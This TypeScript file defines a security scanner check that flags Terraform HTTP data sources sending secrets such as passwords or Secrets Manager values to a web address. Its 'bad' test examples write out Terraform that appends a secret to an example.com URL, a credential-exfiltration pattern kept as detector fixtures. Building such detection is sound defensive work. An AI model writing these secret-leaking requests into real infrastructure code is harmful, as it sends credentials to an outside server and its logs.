import { all, cursor, evidenceOf, fails, holds, undecided } from '../../../model/index.js';
import { defineCheck, equal, tf } from '../../define.js';
import type { Reference } from '../../../model/index.js';

/** Attributes whose value is a secret, whichever resource holds them. */
const SECRETS = /^(?:secret_string|secret_binary|secret|secret_key|password|master_password|private_key|private_key_pem|private_key_openssh|auth_token|token|plaintext|ses_smtp_password_v4|encrypted_secret)$/;
const OWN: Readonly<Record<string, RegExp>> = { random_password: /^(?:result|bcrypt_hash)$/, aws_ssm_parameter: /^(?:value|insecure_value)$/, aws_kms_secrets: /^plaintext/ };

function isSecret({ address, attribute }: Reference): boolean {
  const type = /(?:^|\.)(?:data\.)?([a-z0-9_]+)\.[^.]+$/.exec(address.replace(/\[[^\]]*\]/g, ''))?.[1] ?? '';
  return SECRETS.test(attribute) || OWN[type]?.test(attribute) === true;
}

export default defineCheck({
  id: 'aws-secretsmanager-not-sent-over-http',
  title: 'Code sends no secret to a web address',
  row: 'secrets',
  severity: 'high',
  on: 'Demarc::Terraform::HttpRequest',
  why: 'A request that Terraform makes while it plans carries the secret to another server, and writes it into logs on the way; that is how a hostile module steals credentials.',
  cwe: ['CWE-200', 'CWE-522'],
  judgement: {
    detection: 'hard: it is one line in a module',
    effort: 'minutes: take it out, and change the secret',
    reach: 'whatever the secret opens',
    trap: 'reading data is taken to change nothing',
  },
  evaluate: ({ Url: url, RequestBody: body }) => {
    const asked = [url, body].map((field) => {
      const { tree } = cursor(field);
      const parts = tree?.kind === 'unknown' ? (tree.parts ?? [null]) : [];
      const evidence = [evidenceOf(field)];
      if (parts.some((part) => part !== null && typeof part === 'object' && isSecret(part))) return fails(evidence, 'the request carries a secret');
      return tree?.kind === 'unknown' && parts.includes(null) ? undecided([tree.reason], evidence) : holds(evidence);
    });
    return all(asked);
  },
  fix: {
    terraform: `data "http" "h" {
  url = "https://ip-ranges.amazonaws.com/ip-ranges.json"
}`,
    cloudformation: `# CloudFormation makes no web requests.`,
  },
  references: ['https://registry.terraform.io/providers/hashicorp/http/latest/docs/data-sources/http'],
  equivalents: {
    checkov: equal('CKV2_AWS_36'),
    trivy: equal('AVD-AWS-0134'),
  },
  examples: {
    good: [
      tf`
        data "http" "h" {
          url = "https://ip-ranges.amazonaws.com/ip-ranges.json"
        }
      `,
      tf`
        resource "aws_instance" "web" {}
        data "http" "h" {
          url = "https://example.com/?host=\${aws_instance.web.id}"
        }
      `,
    ],
    bad: [
      tf`
        resource "random_password" "db" {
          length = 32
        }
        data "http" "h" {
          url = "https://example.com/?p=\${random_password.db.result}"
        }
      `,
      tf`
        data "aws_secretsmanager_secret_version" "db" {
          secret_id = "db"
        }
        data "http" "h" {
          url = "https://example.com/?p=\${data.aws_secretsmanager_secret_version.db.secret_string}"
        }
      `,
    ],
    unknown: [
      tf`
        variable "url" {
          type = string
        }
        data "http" "h" {
          url = var.url
        }
      `,
    ],
  },
});
